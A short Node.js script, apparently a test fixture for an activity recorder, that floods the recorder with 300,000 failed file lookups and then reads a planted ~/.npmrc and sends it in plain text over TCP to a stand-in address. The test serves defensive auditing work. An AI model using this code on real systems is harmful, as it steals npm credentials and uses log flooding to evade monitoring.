// Looks up 300,000 files that do not exist, more than a recording keeps of
// such lookups, then reads the planted ~/.npmrc and sends it in plain text
// over TCP: the lookups, budgeted apart, must hide neither the read nor
// the send.
'use strict';
const fs = require('fs');
const net = require('net');
const os = require('os');
for (let i = 0; i < 300000; i++) {
  try { fs.openSync('/usr/include/missing-' + i + '.h', 'r'); } catch (e) { /* ENOENT */ }
}
const rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
const s = net.connect(8080, '198.51.100.22', () => s.end(rc));
s.on('error', () => {});
